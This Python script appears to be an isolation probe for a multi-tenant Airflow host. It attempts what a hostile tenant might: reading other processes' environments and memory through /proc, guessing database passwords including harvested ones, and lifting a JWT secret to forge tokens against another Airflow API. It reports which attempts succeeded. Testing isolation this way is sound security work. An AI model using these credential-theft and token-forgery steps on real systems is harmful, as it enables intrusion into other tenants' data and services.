"""What a hostile program tries against everything on its host that is not its Deployment's, and what came of it.

Runs with Python alone, wherever it is put: as a task, as a DAG file being imported, as the build of a package. Once more,
as the control plane's own user, it gets everything: otherwise a refusal would prove nothing.

    python3 probe.py TARGETS-FILE REPORT-FILE
"""

import base64
import errno
import hashlib
import hmac
import json
import os
import socket
import sys
import time
import urllib.error
import urllib.request

GOT = "got it"


class Refused(Exception):
    """Somebody asked said no, in words."""


def b64(data: bytes) -> str:
    return base64.urlsafe_b64encode(data).rstrip(b"=").decode()


def signed(airflow: dict, secret: str) -> str:
    """What the gateway would send to that Airflow for somebody with these permissions."""
    now = int(time.time())
    claims = {"sub": "probe", "aud": airflow["audience"], "iss": airflow["issuer"], "iat": now, "nbf": now}
    claims |= {"exp": now + 60, "permissions": airflow["permissions"]}
    text = f"{b64(json.dumps({'alg': 'HS512', 'typ': 'JWT'}).encode())}.{b64(json.dumps(claims).encode())}"
    return f"{text}.{b64(hmac.new(secret.encode(), text.encode(), hashlib.sha512).digest())}"


class Probe:
    def __init__(self, targets: dict):
        self.targets = targets
        self.results: dict[str, str] = {}

    def run(self) -> dict[str, str]:
        for name, path in self.targets["files"].items():
            self.attempt(f"read {name}", self.read, path)
        for name, path in self.targets["folders"].items():
            self.attempt(f"list {name}", os.listdir, path)
        for name, path in self.targets["sockets"].items():
            self.attempt(f"connect to {name}", self.connect, path)
        for name, pid in self.targets["processes"].items():
            self.attempt(f"read the environment of {name}", self.read, f"/proc/{pid}/environ")
            self.attempt(f"read the memory of {name}", self.memory, pid)
            self.attempt(f"list the open files of {name}", os.listdir, f"/proc/{pid}/fd")
            self.attempt(f"signal {name}", os.kill, pid, 0)
        for name, database in self.targets["databases"].items():
            self.attempt(f"log in to {name}", self.log_in, database)
        self.attempt("call the other Airflow", self.call_airflow, self.targets["airflow"])
        return self.results

    def attempt(self, name: str, act, *arguments) -> None:
        try:
            act(*arguments)
            self.results[name] = GOT
        except OSError as e:
            self.results[name] = errno.errorcode.get(e.errno, type(e).__name__) if e.errno else f"refused: {e}"[:160]
        except Exception as e:
            self.results[name] = f"refused: {' '.join(str(e).split())}"[:160]

    @staticmethod
    def read(path: str) -> bytes:
        with open(path, "rb") as file:
            return file.read(4096)

    @staticmethod
    def connect(path: str) -> None:
        with socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as door:
            door.settimeout(5)
            door.connect(path)

    @staticmethod
    def memory(pid: int) -> None:
        with open(f"/proc/{pid}/mem", "rb", buffering=0) as memory:
            with open(f"/proc/{pid}/maps") as maps:
                start = next(line for line in maps if " rw-p " in line).split("-")[0]
            memory.seek(int(start, 16))
            memory.read(16)

    def log_in(self, database: dict) -> None:
        """With its own password and name, with guesses, and with every password that it can lay its hands on."""
        sys.path.append(self.targets["packages"])
        import psycopg2

        passwords = ["", "postgres", "headgate", *database["known"]]
        try:
            passwords.append(self.read(database["password_file"]).decode().strip())
        except OSError:
            pass
        said = []
        for user in database["users"]:
            for password in passwords:
                where = {"host": "127.0.0.1", "port": database["port"], "dbname": database["name"], "connect_timeout": 5}
                try:
                    psycopg2.connect(user=user, password=password, **where).close()
                    return
                except psycopg2.OperationalError as e:
                    said.append(str(e).strip().splitlines()[-1])
        raise Refused("; ".join(sorted({words.rsplit("FATAL:", 1)[-1].strip() for words in said})))

    def call_airflow(self, airflow: dict) -> None:
        secrets = list(airflow["known"])
        try:
            for line in self.read_all(f"/proc/{airflow['pid']}/environ").split(b"\0"):
                if line.startswith(b"AIRFLOW__API_AUTH__JWT_SECRET="):
                    secrets.append(line.split(b"=", 1)[1].decode())
        except OSError:
            pass
        said = set()
        for secret in secrets:
            status = self.ask(airflow, secret)
            if status == 200:
                return
            said.add(str(status))
        raise Refused("status " + ", ".join(sorted(said)))

    @staticmethod
    def read_all(path: str) -> bytes:
        with open(path, "rb") as file:
            return file.read()

    @staticmethod
    def ask(airflow: dict, secret: str) -> int:
        request = urllib.request.Request(airflow["url"], headers={"Authorization": f"Bearer {signed(airflow, secret)}"})
        opener = urllib.request.build_opener(urllib.request.ProxyHandler({}))
        try:
            with opener.open(request, timeout=20) as answer:
                return answer.status
        except urllib.error.HTTPError as refusal:
            return refusal.code


def main(targets: str, report: str) -> None:
    with open(targets) as file:
        results = Probe(json.load(file)).run()
    # written aside first: whoever waits for the report finds all of it
    with open(f"{report}.part", "w") as file:
        json.dump({"uid": os.getuid(), "results": results}, file)
    os.rename(f"{report}.part", report)


if __name__ == "__main__":
    main(*sys.argv[1:])
